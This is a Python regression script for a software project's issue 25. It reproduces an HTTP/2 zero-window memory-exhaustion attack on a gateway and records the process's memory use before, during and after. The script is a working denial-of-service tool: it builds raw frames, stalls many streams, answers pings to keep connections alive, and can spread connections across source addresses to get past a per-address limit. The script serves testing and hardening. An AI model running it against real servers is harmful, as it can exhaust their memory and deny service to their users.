#!/usr/bin/env python3
"""HTTP/2 zero-window memory attack on `aegis serve` (issue 25), with the gateway's RSS before, during and after.

Opens CONNS plaintext HTTP/2 connections (prior knowledge), each announcing an initial window of 0 and opening
STREAMS streams for a large answer (`GET /openapi.json`, no key needed) that it never lets the server send. Holds
them HOLD seconds, closes them, waits SETTLE seconds. Prints the gateway's VmRSS at each step, how many
connections the gateway closed on its own while held, and the time it took.

With --sources N the connections come from N loopback addresses (127.0.0.2, 127.0.0.3, ...), as from many
clients; with --traffic S ordinary requests follow for S seconds and the RSS after them is printed too (an
allocator may return freed memory only once the process allocates again).

Usage: h2_zero_window.py PID HOST:PORT [--conns 200] [--streams 60] [--hold 40] [--settle 5] [--sources 1]
                         [--traffic 0]
The load is bounded: at most --conns connections and --conns * --streams streams, for --hold seconds.
"""
import argparse
import http.client
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    # Literal header field without indexing, indexed name (RFC 7541 6.2.2), no Huffman.
    assert len(value) < 127
    return bytes([name_index]) + bytes([len(value)]) + value


def headers_block(authority):
    # :method GET (2), :scheme http (6), :path (4), :authority (1)
    return b"\x82\x86" + literal(0x04, b"/openapi.json") + literal(0x01, authority.encode())


class Conn(threading.Thread):
    def __init__(self, addr, streams, source=None):
        super().__init__(daemon=True)
        self.sock = socket.create_connection(addr, timeout=10, source_address=source)
        self.streams = streams
        self.closed_by_server = False
        self.stop = False
        settings = struct.pack(">HI", 0x2, 0) + struct.pack(">HI", 0x4, 0)  # no push, initial window 0
        out = PREFACE + frame(0x4, 0, 0, settings)
        block = headers_block(f"{addr[0]}:{addr[1]}")
        for i in range(streams):
            out += frame(0x1, 0x5, 2 * i + 1, block)  # END_STREAM | END_HEADERS
        try:
            self.sock.sendall(out)
        except OSError:
            self.closed_by_server = True  # refused at once (per-address cap)

    def run(self):
        if self.closed_by_server:
            return
        buf = b""
        self.sock.settimeout(1)
        while not self.stop:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed_by_server = True
                return
            if not data:
                self.closed_by_server = True
                return
            buf += data
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                kind, flags = buf[3], buf[4]
                payload = buf[9 : 9 + length]
                buf = buf[9 + length :]
                try:
                    if kind == 0x4 and not flags & 1:
                        self.sock.sendall(frame(0x4, 1, 0))  # SETTINGS ACK
                    elif kind == 0x6 and not flags & 1:
                        self.sock.sendall(frame(0x6, 1, 0, payload))  # PING ACK: a live peer
                except OSError:
                    self.closed_by_server = True
                    return

    def close(self):
        self.stop = True
        try:
            self.sock.close()
        except OSError:
            pass


def main():
    p = argparse.ArgumentParser()
    p.add_argument("pid", type=int)
    p.add_argument("addr")
    p.add_argument("--conns", type=int, default=200)
    p.add_argument("--streams", type=int, default=60)
    p.add_argument("--hold", type=float, default=40)
    p.add_argument("--settle", type=float, default=5)
    p.add_argument("--sources", type=int, default=1)
    p.add_argument("--traffic", type=float, default=0)
    a = p.parse_args()
    host, port = a.addr.rsplit(":", 1)
    addr = (host, int(port))
    before = rss_kib(a.pid)
    started = time.time()
    conns = []
    for i in range(a.conns):
        source = None if a.sources <= 1 else (f"127.0.0.{2 + i % a.sources}", 0)
        c = Conn(addr, a.streams, source)
        c.start()
        conns.append(c)
    peak = before
    first_close = None
    while time.time() - started < a.hold:
        time.sleep(0.5)
        peak = max(peak, rss_kib(a.pid))
        closed = sum(c.closed_by_server for c in conns)
        if closed and first_close is None:
            first_close = time.time() - started
        if closed == len(conns):
            break
    closed = sum(c.closed_by_server for c in conns)
    during = rss_kib(a.pid)
    for c in conns:
        c.close()
    time.sleep(a.settle)
    after = rss_kib(a.pid)
    requests = 0
    until = time.time() + a.traffic
    while time.time() < until:
        client = http.client.HTTPConnection(host, int(port), timeout=10)
        client.request("GET", "/openapi.json")
        client.getresponse().read()
        client.close()
        requests += 1
    after_traffic = rss_kib(a.pid)
    print(
        f"conns={a.conns} streams/conn={a.streams} rss_before_mib={before/1024:.1f} "
        f"rss_peak_mib={peak/1024:.1f} rss_end_of_hold_mib={during/1024:.1f} rss_after_mib={after/1024:.1f} "
        f"closed_by_gateway={closed}/{a.conns} first_close_s={first_close if first_close is None else round(first_close, 1)} "
        f"held_s={time.time() - started - a.settle - a.traffic:.1f} sources={a.sources}"
        + (f" rss_after_{requests}_requests_mib={after_traffic/1024:.1f}" if a.traffic else "")
    )


if __name__ == "__main__":
    main()
